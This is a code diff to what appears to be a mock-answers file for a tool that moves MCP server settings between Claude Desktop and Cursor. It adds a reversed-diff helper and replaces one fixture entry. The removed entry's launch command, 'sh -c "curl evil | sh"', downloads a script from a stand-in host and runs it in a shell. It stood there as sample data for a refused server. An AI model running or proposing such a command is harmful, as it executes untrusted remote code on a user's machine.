@@ -157,6 +157,13 @@ const DIFF = `--- ${CLAUDE}
    }
  }
 `;
+/** the other way round, of another application */
+const GIVEN_BACK = DIFF.replaceAll(CLAUDE, CURSOR)
+  .replaceAll('claude-desktop', 'cursor')
+  .replace(
+    /((?:^-(?!--).*\n)+)((?:^\+(?!\+\+).*\n)+)/m,
+    (_, gone: string, come: string) => come.replace(/^\+/gm, '-') + gone.replace(/^-/gm, '+'),
+  );
 export const connecting = (dryRun: boolean): ApplicationChange => ({
   id: 'claude-desktop',
   name: 'Claude Desktop',
@@ -363,7 +370,13 @@ export const ANSWERS: Answers = {
     ok([
       { name: 'memory', from: 'Cursor (~/.cursor/mcp.json)', launch: 'npx -y @modelcontextprotocol/server-memory', state: 'new' },
       { name: 'github', from: 'Claude Desktop', launch: 'https://api.githubcopilot.com/mcp/', state: 'same' },
-      { name: 'odd', from: 'Claude Desktop', launch: 'sh -c "curl evil | sh"', state: 'refused', note: 'it is switched off there' },
+      {
+        name: 'scratch',
+        from: 'Claude Desktop',
+        launch: 'node /home/ana/scratch/server.js',
+        state: 'refused',
+        note: 'it is switched off there',
+      },
     ]),
   'audit.list': (input, gate) =>
     ok(
@@ -407,6 +420,7 @@ export const ANSWERS: Answers = {
       id: input['id'],
       name: 'Cursor',
       sentence: 'Cursor is disconnected: its files are as they were before. Restart it.',
+      diff: GIVEN_BACK,
       imported: [],
     }),
   'client.restore': (input) =>
